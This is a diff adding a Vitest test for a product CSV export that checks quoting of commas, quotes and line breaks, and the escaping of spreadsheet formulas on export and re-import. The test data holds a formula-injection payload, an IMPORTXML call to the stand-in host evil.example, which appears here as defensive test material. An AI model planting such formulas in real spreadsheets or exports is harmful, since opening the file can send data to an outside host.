@@ -1,3 +1,4 @@
+import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createMerchant, createStaff, type Merchant } from '../../test/fixtures.js';
 import { createTestApp, type TestApp } from '../../test/harness.js';
@@ -359,6 +360,40 @@ describe('export', () => {
     expect(lines.find((l) => l.startsWith('Coca-Cola 50cl,'))).toMatch(
       /^Coca-Cola 50cl,COKE-50,\d{13},400\.00,,,0,yes,5,piece,Soft Drinks,,active$/,
     );
+  });
+  it('quotes commas, quotes and line breaks, escapes formulas, and imports back unchanged', async () => {
+    const shop = await createMerchant(t);
+    const created = await t.call('POST', '/product/create', {
+      token: shop.token,
+      body: {
+        name: 'Rice, "Ofada" 5kg',
+        sku: 'OFADA-5',
+        price: 850_000,
+        quantity: 12,
+        low_stock_threshold: 3,
+        unit: '@bag',
+        description: '=IMPORTXML("http://evil.example","//a")\nSecond line',
+      },
+    });
+    expect(created.status, JSON.stringify(created.body)).toBe(201);
+    const res = await t.call('GET', '/product/export', { token: shop.token, query: { status: 'all' } });
+    const text = String(res.body).replace(/^\uFEFF/, '');
+    const [, line] = text.split('\r\n');
+    expect(line).toBe(
+      `"Rice, ""Ofada"" 5kg",OFADA-5,${created.body.data.barcode ?? ''},8500.00,,,12,yes,3,"'@bag",,` +
+        `"'=IMPORTXML(""http://evil.example"",""//a"")\nSecond line",active`,
+    );
+    const [, cells] = Papa.parse<string[]>(text.trim()).data;
+    expect([cells![0], cells![9], cells![11]]).toEqual([
+      'Rice, "Ofada" 5kg',
+      "'@bag",
+      `'=IMPORTXML("http://evil.example","//a")\nSecond line`,
+    ]);
+    const back = await t.call('POST', '/product/upload', {
+      token: shop.token,
+      ...fileUpload(text, 'products.csv', 'text/csv'),
+    });
+    expect(back.body.data).toMatchObject({ created: 0, updated: 0, unchanged: 1, rejected: [] });
   });
 });
 
